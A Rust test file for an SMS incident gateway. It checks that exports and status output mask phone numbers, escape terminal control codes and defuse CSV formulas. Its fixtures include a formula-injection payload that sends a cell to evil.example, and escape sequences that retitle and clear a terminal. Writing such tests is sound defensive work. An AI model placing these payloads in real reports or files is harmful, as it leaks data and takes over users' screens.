//! `status` and `export` against a real store file holding hostile reports: numbers and texts
//! only with `--show-numbers` / `--show-texts` (and a warning then), control characters escaped
//! on the terminal, formula starts defused in CSV.

use std::path::Path;
use std::process::{Command, Output};

use config::secrets;

const NUMBER: &str = "+243812349901";
/// A report that tries to take over the technician's terminal and spreadsheet.
const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1) \u{1b}]0;owned\u{7}\u{1b}[2J";
const PLACE: &str = "@Kalimbi\u{9b}31m";

fn gateway(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kufatilia-gateway"))
        .args(args)
        .arg("--config")
        .arg(dir.join("gateway.toml"))
        .output()
        .unwrap()
}

/// A store with one report of `HOSTILE`, and a modem whose operator name is hostile too.
fn hostile_store(share_numbers: bool) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    secrets::write_secret(&dir.path().join("token"), b"t").unwrap();
    secrets::write_secret(&dir.path().join("pseudonym.key"), b"k3y").unwrap();
    std::fs::write(
        dir.path().join("gateway.toml"),
        format!(
            "gateway_id = \"gw\"\ndatabase = \"gateway.db\"\n\n[platform]\nurl = \"http://127.0.0.1:9/\"\n\
             token_file = \"token\"\n\n[privacy]\nshare_phone_numbers = {share_numbers}\n\
             pseudonym_secret_file = \"pseudonym.key\"\n"
        ),
    )
    .unwrap();
    let db = dir.path().join("gateway.db");
    drop(store::Store::open(&db).unwrap());
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute(
        "INSERT INTO messages (id, modem, sender, sender_kind, text, parts, decode_status,
                               received_at_ms, handled)
         VALUES (1, 'vodacom', ?1, 'international', ?2, 1, 'ok', 1800000000000, 1)",
        [NUMBER, HOSTILE],
    )
    .unwrap();
    conn.execute(
        "INSERT INTO incidents (message_id, reference, incident_type, language, description,
                                location, created_at_ms)
         VALUES (1, 'K7-0001', 'accident', 'sw', ?1, ?2, 1800000000000)",
        [HOSTILE, PLACE],
    )
    .unwrap();
    conn.execute(
        "INSERT INTO modem_status (name, status_json, saved_at_ms) VALUES ('vodacom', ?1, 0)",
        [
            serde_json::json!({ "state": "ready", "operator": "\u{1b}[31mVodacom\u{1b}[0m" })
                .to_string(),
        ],
    )
    .unwrap();
    dir
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn status_shows_no_number_nor_text_unless_asked_and_says_so_when_asked() {
    let dir = hostile_store(false);
    let plain = gateway(dir.path(), &["status", "--json"]);
    let out = text(&plain.stdout);
    assert_eq!(plain.status.code(), Some(0), "{}", text(&plain.stderr));
    let report = &serde_json::from_str::<serde_json::Value>(&out).unwrap()["last_reports"][0];
    assert_eq!(report["reference"], "K7-0001");
    assert_eq!(report["sender"], "…901", "masked: {out}");
    assert!(
        !out.contains("812349901") && !out.contains("HYPERLINK") && !out.contains("Kalimbi"),
        "{out}"
    );
    assert!(text(&plain.stderr).is_empty(), "{}", text(&plain.stderr));

    let shown = gateway(
        dir.path(),
        &["status", "--json", "--show-numbers", "--show-texts"],
    );
    let out = text(&shown.stdout);
    assert_eq!(shown.status.code(), Some(0));
    let report = &serde_json::from_str::<serde_json::Value>(&out).unwrap()["last_reports"][0];
    assert_eq!(report["sender"], NUMBER);
    assert_eq!(report["description"], HOSTILE);
    let warning = text(&shown.stderr);
    assert!(
        warning.contains("warning")
            && warning.contains("phone numbers")
            && warning.contains("wrote"),
        "{warning}"
    );

    // On the terminal: nothing a reporter or operator sent reaches it as a control character.
    for args in [
        &["status"][..],
        &["status", "--show-numbers", "--show-texts"],
    ] {
        let out = gateway(dir.path(), args);
        let screen = text(&out.stdout);
        assert_eq!(out.status.code(), Some(0), "{screen}");
        assert!(
            !screen.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?}: {screen:?}"
        );
        assert!(screen.contains("\\u{1b}[31mVodacom"), "{screen}");
    }
    let screen = text(&gateway(dir.path(), &["status", "--show-texts"]).stdout);
    assert!(
        screen.contains("HYPERLINK") && screen.contains("\\u{1b}]0;owned\\u{7}"),
        "{screen}"
    );
}

#[test]
fn export_leaves_numbers_and_texts_out_unless_asked_and_defuses_formulas() {
    let dir = hostile_store(true);
    let plain = gateway(dir.path(), &["export", "--since", "2020-01-01"]);
    let csv = text(&plain.stdout);
    assert_eq!(plain.status.code(), Some(0), "{}", text(&plain.stderr));
    assert_eq!(csv.lines().count(), 2, "{csv}");
    assert!(
        !csv.contains("812349901") && !csv.contains("HYPERLINK"),
        "{csv}"
    );
    assert!(csv.contains("…901"), "{csv}");
    assert!(
        text(&plain.stderr).contains("--show-texts"),
        "{}",
        text(&plain.stderr)
    );
    assert!(!text(&plain.stderr).contains("warning"));

    let shown = gateway(
        dir.path(),
        &[
            "export",
            "--since",
            "2020-01-01",
            "--show-numbers",
            "--show-texts",
        ],
    );
    let csv = text(&shown.stdout);
    assert_eq!(shown.status.code(), Some(0), "{}", text(&shown.stderr));
    assert!(
        text(&shown.stderr).contains("warning"),
        "{}",
        text(&shown.stderr)
    );
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let row = rows.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_string();
    // The number starts with `+`: a formula start too.
    assert_eq!(cell("reporter"), format!("'{NUMBER}"));
    let description = cell("description");
    assert!(description.starts_with("'=HYPERLINK("), "{description}");
    assert!(
        !description.chars().any(char::is_control),
        "{description:?}"
    );
    assert!(
        cell("location").starts_with("'@Kalimbi"),
        "{}",
        cell("location")
    );
    assert!(!cell("location").chars().any(char::is_control));

    // JSON keeps the text as it came (its encoder escapes control characters).
    let json = gateway(
        dir.path(),
        &[
            "export",
            "--since",
            "2020-01-01",
            "--format",
            "json",
            "--show-texts",
        ],
    );
    let out = text(&json.stdout);
    assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["description"], HOSTILE);
    assert_eq!(rows[0]["reporter"], "…901");
}

/// docs/privacy.md is the partner's answer to "what can who learn?": every setting of the
/// shipped `[privacy]` section, the keywords file's `[replies.ack_names_type]` and the reveal
/// flags is explained there, and each threat has its paragraph.
#[test]
fn the_privacy_doc_explains_every_privacy_setting_and_threat() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let doc = std::fs::read_to_string(root.join("docs/privacy.md")).unwrap();
    let gateway: toml::Table = std::fs::read_to_string(root.join("config/gateway.toml"))
        .unwrap()
        .parse()
        .unwrap();
    let keywords: toml::Table = std::fs::read_to_string(root.join("config/keywords.toml"))
        .unwrap()
        .parse()
        .unwrap();
    let mut settings: Vec<String> = gateway["privacy"]
        .as_table()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert!(
        keywords["replies"].get("ack_names_type").is_some(),
        "the keywords file has [replies.ack_names_type]"
    );
    settings.extend(["ack_names_type", "--show-numbers", "--show-texts"].map(String::from));
    for setting in &settings {
        assert!(
            doc.contains(setting.as_str()),
            "docs/privacy.md does not explain `{setting}`"
        );
    }
    for threat in [
        "seized or stolen box",
        "seized phone",
        "breach of the platform",
        "an operator",
    ] {
        assert!(
            doc.to_lowercase().contains(threat),
            "docs/privacy.md has no paragraph on a {threat}"
        );
    }
}
